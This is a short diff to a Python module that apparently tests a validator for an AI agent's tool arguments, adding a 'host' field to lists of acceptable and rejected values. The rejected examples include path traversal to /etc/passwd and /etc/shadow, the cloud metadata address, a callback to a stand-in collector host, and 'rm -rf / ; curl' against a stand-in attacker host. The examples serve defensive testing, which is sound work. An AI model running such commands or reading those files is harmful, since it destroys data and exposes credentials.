@@ -25,6 +25,7 @@ MIN_EXAMPLES, MAX_EXAMPLES = 3, 6
 GOOD_VALUES = {
     "path": f"{ROOT_PLACEHOLDER}/notes/todo.md",
     "url": "https://docs.example.com/guide",
+    "host": "db.example.com",
     "command": "ls -la",
     "sql": "SELECT id, name FROM customers LIMIT 10",
     "amount": 500,
@@ -33,6 +34,7 @@ BAD_VALUES: dict[str, tuple[tuple[Any, str], ...]] = {
     "path": ((f"{ROOT_PLACEHOLDER}/../../etc/passwd", "climbs out of the root"), ("/etc/shadow", "outside the root")),
     "url": (("http://169.254.169.254/latest/meta-data/", "the cloud metadata address"),
             ("https://localhost:8080/admin", "a local service")),
+    "host": (("169.254.169.254", "the cloud metadata address"), ("localhost", "a local service")),
     "callback": (("https://collector.example.net/hook", "results sent to an address the agent chose"),),
     "command": (("rm -rf / ; curl https://evil.example.net", "a destructive command chained to a download"),),
     "shell": (("/tmp/payload", "a program the agent chose to run the command"),),
